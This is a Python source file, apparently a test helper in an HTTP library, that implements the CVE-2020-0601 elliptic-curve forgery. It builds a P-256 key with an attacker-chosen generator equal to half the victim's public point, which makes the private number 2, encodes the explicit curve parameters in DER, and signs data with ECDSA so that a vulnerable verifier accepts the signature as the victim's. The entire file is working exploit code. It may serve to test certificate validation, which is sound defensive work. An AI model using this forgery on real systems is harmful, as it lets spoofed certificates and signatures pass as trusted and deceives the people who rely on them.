# Bluebonnet: HTTP operations for Swift on Linux.
# SPDX-License-Identifier: MIT
"""A key on P-256 with another generator: the forgery of CVE-2020-0601. It has the public point of somebody else's key,
and a private number that is known, because the generator was chosen for that."""
import hashlib
import secrets

import der

P = 2**256 - 2**224 + 2**192 + 2**96 - 1
A = P - 3
B = 0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B
ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def add(one, two):
    if one is None or two is None:
        return one or two
    (x1, y1), (x2, y2) = one, two
    if x1 == x2 and (y1 + y2) % P == 0:
        return None
    if one == two:
        slope = (3 * x1 * x1 + A) * pow(2 * y1, -1, P) % P
    else:
        slope = (y2 - y1) * pow(x2 - x1, -1, P) % P
    x3 = (slope * slope - x1 - x2) % P
    return x3, (slope * (x1 - x3) - y1) % P


def times(number, point):
    result = None
    while number:
        if number & 1:
            result = add(result, point)
        point, number = add(point, point), number >> 1
    return result


def number(value):
    return value.to_bytes(32, "big")


class ForgedKey:
    """Has the same point as the victim; its private number is 2, because its generator is half of that point."""

    algorithm = der.sequence(der.oid("1.2.840.10045.4.3.2"))

    def __init__(self, victim):
        numbers = victim.public_key().public_numbers()
        point = (numbers.x, numbers.y)
        self.generator = times(pow(2, -1, ORDER), point)
        parameters = der.sequence(
            der.integer(1), der.sequence(der.oid("1.2.840.10045.1.1"), der.integer(P)),
            der.sequence(der.octets(number(A)), der.octets(number(B))), der.octets(self._bytes(self.generator)),
            der.integer(ORDER), der.integer(1))
        self.public_key_info = der.sequence(
            der.sequence(der.oid("1.2.840.10045.2.1"), parameters), der.bits(self._bytes(point)))

    @staticmethod
    def _bytes(point):
        return b"\x04" + number(point[0]) + number(point[1])

    def sign(self, content):
        """ECDSA with SHA-256, over the other generator."""
        digest = int.from_bytes(hashlib.sha256(content).digest(), "big")
        secret = secrets.randbelow(ORDER - 1) + 1
        r = times(secret, self.generator)[0] % ORDER
        s = pow(secret, -1, ORDER) * (digest + 2 * r) % ORDER
        return der.sequence(der.integer(r), der.integer(s))
